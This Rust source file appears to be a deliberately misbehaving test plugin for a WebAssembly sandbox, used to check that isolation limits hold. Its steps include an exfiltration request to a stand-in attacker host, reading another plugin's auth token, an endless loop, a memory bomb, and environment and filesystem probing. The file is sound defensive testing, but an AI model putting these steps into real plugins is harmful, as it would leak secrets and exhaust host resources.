//! Breaks one rule of the sandbox per step, so that each limit test proves one guarantee.

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Mutex;

use nurture_plugin_sdk::{http, secrets, Call, Manifest, Outcome, Plugin};

/// Calls this instance has run (zero-initialised: the `.bss` part of memory).
static CALLS: AtomicU32 = AtomicU32::new(0);
/// Initialised data (the memory image's data segment), overwritten by `remember`.
static MARK: Mutex<[u8; 16]> = Mutex::new(*b"initial-contents");

pub struct Misbehave;

impl Plugin for Misbehave {
    fn manifest() -> Manifest {
        Manifest::from_toml(include_str!("../plugin.toml"))
    }

    fn run(call: Call) -> Outcome {
        match call.step.as_str() {
            "echo" => Outcome::ok(call.config),
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "forbidden-host" => {
                match http::Request::get("https://evil.example.test/exfiltrate").send() {
                    Ok(r) => Outcome::ok(serde_json::json!({"status": r.status})),
                    Err(e) => Outcome::failed(e.to_string()),
                }
            }
            "fetch" => {
                let url = call.config["url"].as_str().unwrap_or_default();
                match http::Request::get(url).send() {
                    Ok(r) => Outcome::ok(serde_json::json!({"status": r.status})),
                    Err(e) => Outcome::failed(e.to_string()),
                }
            }
            "foreign-secret" => match secrets::get("auth_token") {
                Ok(v) => Outcome::ok(serde_json::json!({"stolen": v})),
                Err(e) => Outcome::failed(e),
            },
            "panic" => panic!("misbehave panicked on purpose"),
            "trap" => {
                #[cfg(target_arch = "wasm32")]
                core::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!()
            }
            "remember" => remember(),
            "peek" => {
                let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let fs = std::fs::read_dir("/")
                    .map(|d| d.count())
                    .map_err(|e| e.to_string());
                let now = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_secs())
                    .unwrap_or(0);
                Outcome::ok(serde_json::json!({"env": env, "fs": format!("{fs:?}"), "clock": now}))
            }
            other => Outcome::failed(format!("no step {other}")),
        }
    }
}

/// Writes everywhere a previous call could leave something behind (a global counter,
/// initialised data, a heap allocation, memory grown past the initial size) and reports
/// what it found there first: a fresh instance finds `calls` 1, the initial mark, the
/// initial memory size and zeroed grown memory, every time.
fn remember() -> Outcome {
    let pages = memory_pages();
    let leftovers = scribbles_in_memory(pages);
    let calls = CALLS.fetch_add(1, Ordering::SeqCst) + 1;
    let mark = {
        let mut m = MARK.lock().unwrap_or_else(|e| e.into_inner());
        let before = String::from_utf8_lossy(&*m).into_owned();
        *m = *b"written-by-call!";
        before
    };
    let heap: Vec<u8> = vec![0xAB; 256 << 10];
    std::hint::black_box(&heap);
    let grown_nonzero = grow_and_scribble();
    Outcome::ok(serde_json::json!({
        "calls": calls,
        "mark": mark,
        "pages_at_start": pages,
        "grown_nonzero_bytes": grown_nonzero,
        "scribbles_found": leftovers,
    }))
}

/// How many 4 KiB blocks of the memory are all 0xAB (what `remember` writes on the heap
/// and in grown memory): none in a fresh instance.
fn scribbles_in_memory(pages: usize) -> usize {
    let mut found = 0;
    for block in 1..pages * 16 {
        let start = (block * 4096) as *const u8;
        // SAFETY: every address below the memory size is readable in wasm; no reference
        // is made, only volatile reads.
        let all = (0..4096).all(|i| unsafe { start.add(i).read_volatile() } == 0xAB);
        found += usize::from(all);
    }
    found
}

/// The size of the memory, in 64 KiB pages.
fn memory_pages() -> usize {
    #[cfg(target_arch = "wasm32")]
    return core::arch::wasm32::memory_size(0);
    #[cfg(not(target_arch = "wasm32"))]
    0
}

/// How many bytes of a freshly grown page were not zero (then fills that page with 0xAB).
#[cfg(target_arch = "wasm32")]
fn grow_and_scribble() -> usize {
    let old = core::arch::wasm32::memory_grow(0, 1);
    if old == usize::MAX {
        return usize::MAX;
    }
    let page = (old * 65536) as *mut u8;
    let mut nonzero = 0;
    for i in 0..65536 {
        // SAFETY: the page was just grown and belongs to no allocation.
        unsafe {
            if page.add(i).read_volatile() != 0 {
                nonzero += 1;
            }
            page.add(i).write_volatile(0xAB);
        }
    }
    nonzero
}

#[cfg(not(target_arch = "wasm32"))]
fn grow_and_scribble() -> usize {
    0
}

nurture_plugin_sdk::export_plugin!(Misbehave);
